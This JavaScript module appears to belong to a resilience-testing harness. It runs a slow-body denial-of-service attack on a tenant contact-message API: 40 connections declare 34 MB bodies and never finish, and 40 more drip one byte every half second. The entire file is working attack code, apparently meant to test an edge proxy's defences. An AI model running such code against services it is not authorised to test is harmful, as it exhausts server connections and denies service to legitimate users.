/** Bodies at the contact form that do not end: 33 of 34 MB, and a byte now and then of a short one. */
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect, headOf } from './sockets.mjs';

const BODIES = 40;
const PIECE = Buffer.alloc(1_000_000, 97);
const PIECES = 33;
/** All bodies together fill a line of 1 Gbit/s: more of it would measure the loopback, not the edge. */
const PIECE_EVERY_MS = 400;

export async function slowBodies(attack) {
  const head = (bytes) =>
    headOf(attack, 'POST', '/api/v1/tenant/contact-messages', {
      'Content-Type': 'application/json',
      'Content-Length': bytes,
    });
  const dripping = [];
  for (let at = 0; at < BODIES; at++) {
    const large = connect(attack, attack.address(1), head(34_000_000));
    void fill(large, attack.signal);
    dripping.push(connect(attack, attack.address(2), head(90_000)));
  }
  while (!attack.signal.aborted) {
    for (const socket of dripping) if (socket.writable) socket.write('a');
    await sleep(500, undefined, { signal: attack.signal }).catch(() => {});
  }
}

async function fill(socket, signal) {
  for (let piece = 0; piece < PIECES && socket.writable; piece++) {
    if (!socket.write(PIECE)) await once(socket, 'drain', { signal }).catch(() => {});
    await sleep(PIECE_EVERY_MS, undefined, { signal }).catch(() => {});
  }
}
